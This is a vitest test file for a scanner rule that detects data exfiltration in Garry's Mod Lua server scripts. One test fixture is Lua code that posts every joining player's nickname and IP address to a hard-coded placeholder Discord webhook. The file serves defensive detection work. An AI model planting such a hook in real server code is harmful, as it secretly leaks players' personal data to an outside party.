// Valid and invalid cases of the `dataexfiltration` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './dataexfiltration.js';
import { check, RANK, worst } from './ruleTesting.js';

describe('dataexfiltration', () => {
  it('player IPs to a hard-coded webhook', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'hook.Add("PlayerInitialSpawn", "j", function(ply)\n local ip = ply:IPAddress()\n http.Post("https://discord.invalid/api/webhooks/1/x", {content = ply:Nick() .. " " .. ip})\nend)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('relay behind a configured URL', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'Relay = {URL = ""}\nhook.Add("PlayerSay", "r", function(ply, text)\n if Relay.URL == "" then return end\n http.Post(Relay.URL, {content = text})\nend)',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
});
